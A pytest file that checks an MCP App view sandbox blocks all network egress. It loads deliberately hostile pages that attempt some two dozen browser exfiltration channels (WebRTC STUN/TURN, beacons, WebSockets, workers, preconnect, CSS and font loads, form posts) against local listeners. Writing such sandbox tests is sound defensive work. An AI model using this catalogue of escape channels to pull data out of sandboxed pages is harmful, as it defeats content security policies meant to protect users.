"""An MCP App view has no way out under the default "no network" policy: every path a page has to
the network (WebRTC's STUN over UDP and TURN over TCP, preconnect, prefetch, DNS prefetch,
WebSocket, beacon, form submission, CSS and font loads, workers, EventSource, …) is tried by a
hostile view while a real TCP and a real UDP listener on 127.0.0.1 wait; both must stay silent, and
the inspector lists what was blocked.

Each page does one thing, waits (its own timer, 1.5 s: ICE gathering and preconnect are quick on
loopback) and then says `size-changed`; the test waits on that message, never sleeps.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from desktop_app.ui import mcp_app

if not mcp_app.available():
    pytest.skip("Qt WebEngine is not installed (pip install -e '.[apps]')", allow_module_level=True)
if hasattr(os, "geteuid") and os.geteuid() == 0:
    os.environ.setdefault("QTWEBENGINE_DISABLE_SANDBOX", "1")  # Chromium refuses its sandbox as root

from desktop_app.mcp.apps.views import AppResource, Csp
from desktop_app.tools.registry import ToolDef, ToolOutput
from tests.gui.conftest import scripted_factory
from tests.gui.mcp_app.test_mcp_apps_window import wait_traffic

pytestmark = pytest.mark.qt_log_level_fail("CRITICAL")  # Chromium's start-up notices (GPU, D-Bus) are not ours


class Listeners:
    """A TCP and a UDP socket on the same 127.0.0.1 port; whatever reaches either is recorded."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.stop = threading.Event()
        for _ in range(20):
            self.tcp = socket.socket()
            self.tcp.bind(("127.0.0.1", 0))
            self.port = self.tcp.getsockname()[1]
            self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                self.udp.bind(("127.0.0.1", self.port))
                break
            except OSError:
                self.tcp.close()
                self.udp.close()
        self.tcp.listen(16)
        self.tcp.settimeout(0.1)
        self.udp.settimeout(0.1)
        self.threads = [threading.Thread(target=run, daemon=True) for run in (self._tcp, self._udp)]
        for thread in self.threads:
            thread.start()

    def _tcp(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            conn.settimeout(0.3)
            try:
                self.seen.append(f"tcp: {conn.recv(200)!r}")
            except OSError:
                self.seen.append("tcp: (connected)")
            conn.close()

    def _udp(self) -> None:
        while not self.stop.is_set():
            try:
                data, _ = self.udp.recvfrom(2048)
            except OSError:
                continue
            self.seen.append(f"udp: {data[:40]!r}")

    def close(self) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    found = Listeners()
    yield found
    found.close()


@pytest.fixture
def window(make_window: Any) -> Any:
    return make_window(scripted_factory())


TURN = "{urls: 'turn:127.0.0.1:%(port)s?transport=tcp', username: 'secret-from-input', credential: 'x'}"
STUN = "{urls: 'stun:127.0.0.1:%(port)s'}"
PEER = """
function gather(RTC) {
  var pc = new RTC({iceServers: [%(stun)s, %(turn)s], iceTransportPolicy: 'all'});
  pc.createDataChannel('out');
  pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
}
"""
SCRIPTS: dict[str, str] = {
    "webrtc": "gather(window.RTCPeerConnection || window.webkitRTCPeerConnection);",
    "webrtc-prefixed": "gather(window.webkitRTCPeerConnection);",
    "webrtc-nested-frame": """
      var f = document.createElement('iframe'); document.body.appendChild(f);
      gather(f.contentWindow.RTCPeerConnection);""",
    "webrtc-nested-index": """
      document.body.appendChild(document.createElement('iframe'));
      gather(window[0].RTCPeerConnection);""",
    "webrtc-srcdoc-frame": """
      var f = document.createElement('iframe');
      f.srcdoc = '<script>' + gather.toString() + 'gather(RTCPeerConnection);<' + '/script>';
      document.body.appendChild(f);""",
    "websocket": "new WebSocket('ws://127.0.0.1:%(port)s/ws');",
    "webtransport": "try { new WebTransport('https://127.0.0.1:%(port)s/wt'); } catch (e) {}",
    "beacon": "navigator.sendBeacon('http://127.0.0.1:%(port)s/beacon', 'secret');",
    "fetch-keepalive": "fetch('http://127.0.0.1:%(port)s/k', {method: 'POST', body: 'x', keepalive: true});",
    "xhr": "var x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:%(port)s/xhr'); x.send();",
    "eventsource": "new EventSource('http://127.0.0.1:%(port)s/events');",
    "worker": "new Worker('http://127.0.0.1:%(port)s/worker.js');",
    "worker-blob": """
      var code = "fetch('http://127.0.0.1:%(port)s/from-worker'); new WebSocket('ws://127.0.0.1:%(port)s/w');";
      new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));""",
    "shared-worker": "new SharedWorker('http://127.0.0.1:%(port)s/shared.js');",
    "service-worker": "navigator.serviceWorker.register('http://127.0.0.1:%(port)s/sw.js');",
    "form": """
      var form = document.createElement('form'); form.method = 'POST';
      form.action = 'http://127.0.0.1:%(port)s/form'; document.body.appendChild(form); form.submit();""",
    "navigate-frame": """
      var f = document.createElement('iframe');
      f.srcdoc = "<script>location.href = 'http://127.0.0.1:%(port)s/nav';<" + "/script>";
      document.body.appendChild(f);""",
    "refresh-frame": """
      var f = document.createElement('iframe');
      f.srcdoc = "<meta http-equiv='refresh' content='0;url=http://127.0.0.1:%(port)s/refresh'>";
      document.body.appendChild(f);""",
    "ping": """
      var a = document.createElement('a'); a.href = 'http://127.0.0.1:%(port)s/a'; a.target = '_blank'; a.ping = 'http://127.0.0.1:%(port)s/ping';
      document.body.appendChild(a); a.click();""",
    "dynamic-preconnect": """
      var l = document.createElement('link'); l.rel = 'preconnect';
      l.href = 'http://127.0.0.1:%(port)s/'; document.head.appendChild(l);""",
    "worklet": "new AudioContext().audioWorklet.addModule('http://127.0.0.1:%(port)s/worklet.js')"
    ".catch(function () {});",
    "import": "import('http://127.0.0.1:%(port)s/m.js').catch(function () {});",
}
MARKUP: dict[str, str] = {
    "preconnect": "<link rel='preconnect' href='http://127.0.0.1:%(port)s/'>",
    "preconnect-crossorigin": "<link rel='preconnect' href='http://127.0.0.1:%(port)s' crossorigin>",
    "preconnect-https": "<link rel='preconnect' href='https://127.0.0.1:%(port)s/'>",
    "dns-prefetch": "<link rel='dns-prefetch' href='http://127.0.0.1:%(port)s/'>",
    "prefetch": "<link rel='prefetch' href='http://127.0.0.1:%(port)s/prefetch'>",
    "preload": "<link rel='preload' as='fetch' href='http://127.0.0.1:%(port)s/preload' crossorigin>",
    "modulepreload": "<link rel='modulepreload' href='http://127.0.0.1:%(port)s/mp.js'>",
    "speculation-rules": '<script type=\'speculationrules\'>{"prefetch": [{"source": "list", '
    '"urls": ["http://127.0.0.1:%(port)s/spec"]}], "prerender": [{"source": "list", '
    '"urls": ["http://127.0.0.1:%(port)s/pre"]}]}</script>',
    "stylesheet": "<link rel='stylesheet' href='http://127.0.0.1:%(port)s/style.css'>",
    "css-import": "<style>@import url('http://127.0.0.1:%(port)s/import.css');</style>",
    "css-background": "<style>body{background:url('http://127.0.0.1:%(port)s/bg.png')}</style>",
    "font": "<style>@font-face{font-family:leak;src:url('http://127.0.0.1:%(port)s/f.woff')}"
    "body{font-family:leak}</style>",
    "script-src": "<script src='http://127.0.0.1:%(port)s/s.js'></script>",
    "img": "<img src='http://127.0.0.1:%(port)s/img.png'>",
    "iframe": "<iframe src='http://127.0.0.1:%(port)s/frame'></iframe>",
    "object": "<object data='http://127.0.0.1:%(port)s/obj'></object>",
    "video": "<video src='http://127.0.0.1:%(port)s/v.mp4' autoplay></video>",
    "svg-image": "<svg><image href='http://127.0.0.1:%(port)s/i.svg'/></svg>",
}
# what the inspector lists as blocked (the rest fail inside the page: sandboxed forms, cross-origin
# workers, a bare socket to the proxy that never becomes a request, a nested frame it cannot reach)
REPORTED = {
    "webrtc": "RTCPeerConnection",
    "webrtc-prefixed": "webkitRTCPeerConnection",
    "webrtc-srcdoc-frame": "RTCPeerConnection",
    "websocket": "(connect-src)",
    "beacon": "(connect-src)",
    "eventsource": "(connect-src)",
    "worker-blob": "(worker-src)",
    "prefetch": "/prefetch",
    "stylesheet": "(style-src-elem)",
    "css-import": "(style-src-elem)",
    "font": "(font-src)",
    "img": "(img-src)",
    "iframe": "(frame-src)",
    "navigate-frame": "(frame-src)",
}
PAGE = """<!DOCTYPE html><html><head>%(markup)s</head><body><p>hostile</p><script>%(peer)s
try { %(script)s } catch (e) {}
setTimeout(function () {
  window.parent.postMessage({jsonrpc: "2.0", method: "ui/notifications/size-changed", params: {height: 77}}, "*");
}, 1500);
</script></body></html>"""


def hostile(name: str, port: int) -> str:
    fill = {"port": port}
    peer = PEER % {"stun": STUN % fill, "turn": TURN % fill}
    script = SCRIPTS.get(name, "") % fill
    return PAGE % {"markup": MARKUP.get(name, "") % fill, "peer": peer, "script": script}


def show(window: Any, call_id: str, html: str, csp: Csp | None = None) -> Any:
    async def never(_args: dict[str, Any], _report: Any = None) -> ToolOutput:
        raise AssertionError("not called")

    tool = ToolDef("evil__show", "", {"type": "object"}, never, source="mcp:evil", meta={"server": "evil", "tool": "s"})
    return window.apps.show_view(call_id, tool, AppResource("ui://evil/app.html", html, csp or Csp()), {})


@pytest.mark.parametrize("name", [*SCRIPTS, *MARKUP])
def test_no_way_out_of_a_view(qtbot: Any, window: Any, listeners: Listeners, name: str) -> None:
    show(window, name, hostile(name, listeners.port))
    wait_traffic(qtbot, window, name, lambda lines: "← ui/notifications/size-changed" in lines)
    lines = window.apps.log.lines(name)
    window.apps.close_view(name)
    assert listeners.seen == [], f"{name}: the view reached the listener"
    if name in REPORTED:
        assert any(line.startswith("• blocked a request to") and REPORTED[name] in line for line in lines), lines


def test_a_declared_origin_is_still_reached_through_the_proxy(  # the feature stays: only what was declared
    qtbot: Any, window: Any, listeners: Listeners
) -> None:
    origin = f"https://127.0.0.1:{listeners.port}"
    # the fetch is tried again while it fails (the listener speaks no TLS): one try's connection may be dropped
    # before its handshake under load; every try still goes through the proxy, or none arrives
    retry = "function go(n) { fetch('%s/declared').catch(function () { if (n > 0) setTimeout(go, 500, n - 1); }); }"
    page = f"<script>{retry % origin} go(40);</script>"
    show(window, "declared", page, Csp(connect=(origin,)))
    tls = "tcp: b'\\x16\\x03"  # a TLS handshake, tunnelled by the proxy (a connection Chromium opens and
    # drops before its handshake is recorded first, now and then: the handshake is waited for, not the first)
    qtbot.waitUntil(lambda: any(seen.startswith(tls) for seen in listeners.seen), timeout=30_000)
    window.apps.close_view("declared")
    assert any(seen.startswith(tls) for seen in listeners.seen), listeners.seen
